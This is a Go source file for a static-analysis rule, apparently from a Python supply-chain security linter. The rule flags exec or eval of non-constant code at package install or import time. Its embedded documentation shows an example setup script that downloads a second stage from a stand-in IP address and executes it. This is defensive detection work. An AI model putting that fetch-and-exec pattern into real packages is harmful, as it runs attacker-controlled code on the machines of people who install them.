package supplychain

import (
	"github.com/kraitsec/krait/internal/analysis"
	"github.com/kraitsec/krait/internal/python/ast"
	"github.com/kraitsec/krait/internal/python/semantic"
)

// InstallTimeExec flags exec and eval of data when a package is installed or
// imported.
var InstallTimeExec = &analysis.Rule{
	Code:       "KR813",
	Name:       "install-time-exec",
	Summary:    "exec or eval of data at install or import time",
	Severity:   analysis.SeverityMedium,
	Confidence: analysis.ConfidenceMedium,
	CWE:        []int{506, 95},
	Kinds:      []ast.Kind{ast.KindCall},
	Callees:    []string{"exec", "eval"},
	Run:        runInstallExec,
	Doc: `## What it does
Flags exec and eval (also of a compile() result) of code that is not a
constant, in code that runs when the package is installed or imported (see
install-time-network-access for the scope). Reading a version from a file of
the project is the classic legitimate use in setup scripts and is not
reported: exec(open("pkg/version.py").read()), eval of a line or regular
expression group parsed from such a file, nor is a value that an enclosing
if has just checked to be one of some constants (if v in ("True", "False"):
eval(v)). Code fetched from the network is
high. Decoded code is left to decode-and-execute (KR814).

## Why is this bad?
exec at install time runs whatever the data holds, with the user's rights,
and hides it from anyone who reads the setup script.

## Example
~~~python
import urllib.request
from setuptools import setup

exec(urllib.request.urlopen("http://203.0.113.7/stage2").read())
setup(name="example")
~~~

## Use instead
Import the code you mean to run, and read metadata with a parser instead of
exec:
~~~python
import ast
version = ast.literal_eval(line.split("=", 1)[1])
~~~

## References
- [Python docs: exec](https://docs.python.org/3/library/functions.html#exec)
- [CWE-95: Eval Injection](https://cwe.mitre.org/data/definitions/95.html)
`,
}

func runInstallExec(p *analysis.Pass, n ast.Node) {
	c := n.(*ast.Call)
	ic := installTime(p)
	if ic.kind == kindOther || !ic.runsAtInstall(c) || len(c.Args) == 0 {
		return
	}
	qn := p.Model.CalleeName(c)
	if qn != "builtins.exec" && qn != "builtins.eval" {
		return
	}
	m := p.Model
	code := c.Args[0]
	if cc, ok := code.(*ast.Call); ok && m.QualifiedNameIs(cc.Func, "builtins.compile") && len(cc.Args) > 0 {
		code = cc.Args[0]
	}
	if isConst(m, code) || decoded(m, code) != nil || guardedConst(m, code, c) {
		return
	}
	net, parse := codeOrigin(m, code, 0)
	switch {
	case net != "":
		report(p, c, analysis.SeverityHigh, analysis.ConfidenceHigh, qn+" executes code fetched with "+net+" "+ic.where())
	case parse:
	default:
		p.Report(c, qn+" executes code that is not a constant "+ic.where())
	}
}

// codeOrigin looks into the expression that gives the code: net names the
// network call it comes from; parse says it reads or parses a local file.
func codeOrigin(m *semantic.Model, e ast.Expr, depth int) (net string, parse bool) {
	if depth > maxHops || e == nil {
		return "", false
	}
	ast.Inspect(e, func(n ast.Node) bool {
		switch x := n.(type) {
		case *ast.Call:
			qn := m.CalleeName(x)
			if networkCalls[qn] {
				net = qn
				return false
			}
			if a, ok := x.Func.(*ast.Attribute); ok {
				switch a.Attr {
				case "read", "read_text", "readline", "readlines", "split", "strip", "group", "groups",
					"partition", "rpartition", "splitlines", "rstrip", "lstrip":
					parse = true
				}
			}
		case *ast.Name:
			if v := bound(m, x); v != nil {
				n2, p2 := codeOrigin(m, v, depth+1)
				if n2 != "" {
					net = n2
				}
				parse = parse || p2
			} else if u := m.Use(x); u != nil && u.Binding != nil {
				switch u.Binding.Kind {
				case semantic.BindFor, semantic.BindWith:
					// A line of a file being read, or the file itself.
					parse = true
				}
			}
		}
		return net == ""
	})
	return net, parse && net == ""
}
